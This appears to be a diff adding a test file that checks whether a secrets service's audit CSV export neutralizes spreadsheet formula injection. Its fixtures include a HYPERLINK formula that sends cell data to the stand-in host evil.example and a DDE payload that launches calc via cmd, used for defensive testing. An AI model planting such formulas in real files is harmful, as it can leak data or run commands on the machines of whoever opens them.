@@ -1,0 +1,112 @@
+import { after, before, test } from 'node:test';
+import assert from 'node:assert/strict';
+import { describeEachDialect } from '../../../test/helpers/each-dialect.ts';
+import { collect, parseCsv } from '../../../test/helpers/exports.ts';
+import { createHarness, type Harness } from '../../../test/helpers/harness.ts';
+import { userContext } from '../../../test/helpers/identities.ts';
+import type { TenantContext } from '../shared/context.ts';
+import { fromRow } from './audit-log.ts';
+import { chainHash } from './chain.ts';
+import { AUDIT_CSV_COLUMNS, csvField } from './csv.ts';
+import type { AuditEvent } from './event.ts';
+
+/** What makes a spreadsheet run a cell (OWASP CSV injection), and the ' that marks an added prefix. */
+const DANGEROUS = ['=', '+', '-', '@', '\t', '\r', "'"];
+const payload = (c: string) => `${c}HYPERLINK("https://evil.example/?d="&A1,"open")`;
+const col = (name: (typeof AUDIT_CSV_COLUMNS)[number]) => AUDIT_CSV_COLUMNS.indexOf(name);
+/** Text columns: every column but seq and secret_version (numbers) and context (JSON, so it starts with "{"). */
+const TEXT_COLUMNS = AUDIT_CSV_COLUMNS.filter((c) => !['seq', 'secret_version', 'context'].includes(c));
+
+test('a field starting with = + - @ TAB CR or \' gets a leading \' and quotes; only the first character counts', () => {
+  for (const c of DANGEROUS) {
+    assert.equal(csvField(`${c}1+1`), `"'${c}1+1"`, JSON.stringify(c));
+    assert.deepEqual(parseCsv(csvField(payload(c)) + '\r\n'), [[`'${payload(c)}`]], 'still RFC 4180: inner quotes doubled');
+  }
+  assert.deepEqual(['a-b', 'x=1', ' =1', '', '{"k":"=1"}'].map(csvField), ['a-b', 'x=1', ' =1', '', '"{""k"":""=1""}"']);
+});
+
+test('numbers are written as they are, negative ones too: a number cannot carry a formula', () => {
+  assert.deepEqual([1, 42, -1, 0, null].map(csvField), ['1', '42', '-1', '0', '']);
+  assert.equal(csvField('-1'), `"'-1"`, 'the same characters as text are neutralized');
+});
+
+describeEachDialect('audit CSV export: attacker-chosen text never becomes a spreadsheet formula', (dialect) => {
+  let h: Harness;
+  let tenantId: string;
+  let auditor: { id: string; ctx: () => TenantContext };
+
+  before(async () => {
+    h = await createHarness(dialect);
+    tenantId = h.ctx.tenantId;
+    auditor = await userContext(h, tenantId, 'csv-auditor');
+    await h.services.grants.create(h.ctx, { principalType: 'user', principalId: auditor.id, role: 'auditor' });
+    // Services validate most names; the export must be safe whatever reaches the table, so every text column is hostile here.
+    await h.services.audit.record(DANGEROUS.map((c, i) => ({
+      tenantId,
+      actor: { type: `${c}user` as AuditEvent['actor']['type'], id: payload(c) },
+      action: 'csv.hostile',
+      resource: { type: `${c}secret`, id: payload(c), name: payload(c) },
+      environment: payload(c),
+      secretVersion: i + 1,
+      outcome: `${c}denied` as AuditEvent['outcome'],
+      reason: payload(c),
+      context: { userAgent: payload(c), [`${c}key`]: payload(c) },
+    })));
+  });
+  after(() => h.close());
+
+  const hostile = async () => (await h.storage.db.selectFrom('audit_events').selectAll().where('action', '=', 'csv.hostile').orderBy('seq').execute()).map(fromRow);
+
+  test('every text column that starts with a formula character comes out behind a \' and parses back to the stored text', async () => {
+    const csv = await collect(await h.services.auditQueries.export(auditor.ctx(), { action: 'csv.hostile' }, 'csv'));
+    const [header, ...records] = parseCsv(csv);
+    assert.deepEqual(header, [...AUDIT_CSV_COLUMNS]);
+    const stored = await hostile();
+    assert.equal(records.length, DANGEROUS.length);
+    for (const [i, r] of records.entries()) {
+      const c = DANGEROUS[i]!;
+      const e = stored[i]!;
+      assert.deepEqual(r.filter((f) => /^[=+\-@\t\r]/.test(f)), [], `${JSON.stringify(c)}: no cell a spreadsheet would run`);
+      for (const name of ['actor_id', 'resource_id', 'resource_name', 'environment', 'reason'] as const) {
+        assert.equal(r[col(name)], `'${payload(c)}`, `${JSON.stringify(c)} ${name}`);
+      }
+      assert.deepEqual([r[col('actor_type')], r[col('resource_type')], r[col('outcome')]], [`'${e.actor.type}`, `'${e.resource.type}`, `'${e.outcome}`]);
+      assert.ok(csv.includes(`,"'${payload(c).replaceAll('"', '""')}",`), 'the neutralized field is quoted');
+      // Undoing the rule (one leading ' off every text field that has one) gives back the stored text.
+      const unprefixed = (name: (typeof TEXT_COLUMNS)[number]) => r[col(name)]!.replace(/^'/, '');
+      assert.deepEqual(TEXT_COLUMNS.map(unprefixed), [
+        e.id, new Date(e.time).toISOString(), e.tenantId, e.actor.type, e.actor.id, e.action, e.resource.type, e.resource.id,
+        e.resource.name, e.environment, e.outcome, e.reason, e.prevHash, e.hash,
+      ]);
+      assert.deepEqual([r[col('seq')], r[col('secret_version')]], [String(e.seq), String(i + 1)], 'numbers untouched');
+      assert.ok(r[col('context')]!.startsWith('{'), 'the context column is JSON, which no spreadsheet runs');
+      assert.deepEqual(JSON.parse(r[col('context')]!), e.context, 'context values as stored, no prefix inside the JSON');
+    }
+  });
+
+  test('the JSON lines export keeps the stored events exactly: each still hashes to its chain hash', async () => {
+    const lines = (await collect(await h.services.auditQueries.export(auditor.ctx(), { action: 'csv.hostile' }, 'json'))).split('\n');
+    assert.equal(lines.pop(), '');
+    const exported = lines.map((l) => JSON.parse(l) as AuditEvent);
+    assert.deepEqual(exported, await hostile());
+    assert.deepEqual(exported.map((e) => e.resource.name), DANGEROUS.map(payload), 'no prefix in JSON');
+    for (const e of exported) assert.equal(chainHash(e.prevHash, e), e.hash);
+    assert.equal((await h.services.audit.verify()).ok, true);
+  });
+
+  test('a user agent sent over HTTP that starts with = is exported as sent, inside the JSON context column', async () => {
+    const agent = '=cmd|\' /C calc\'!A0';
+    const headers = { authorization: `Bearer ${h.rootToken}`, 'user-agent': agent };
+    await h.services.secrets.create(h.ctx, { name: 'AGENT_READ', owner: 'ops' });
+    await h.services.values.write(h.ctx, 'AGENT_READ', 'production', { value: 'csv-agent-canary' });
+    const read = await h.app.inject({ method: 'GET', url: '/v1/secrets/AGENT_READ/values/production', headers });
+    assert.equal(read.statusCode, 200, read.body);
+    const res = await h.app.inject({ method: 'GET', url: '/v1/audit/export?format=csv', headers: { authorization: `Bearer ${h.rootToken}` } });
+    assert.equal(res.statusCode, 200);
+    const records = parseCsv(res.body).slice(1);
+    const withAgent = records.filter((r) => r[col('context')]!.includes('calc'));
+    assert.equal(withAgent.length, 1, 'the read was audited with its user agent');
+    assert.ok(withAgent[0]![col('context')]!.startsWith('{'));
+    assert.equal(JSON.parse(withAgent[0]![col('context')]!).userAgent, agent);
+  });
+});
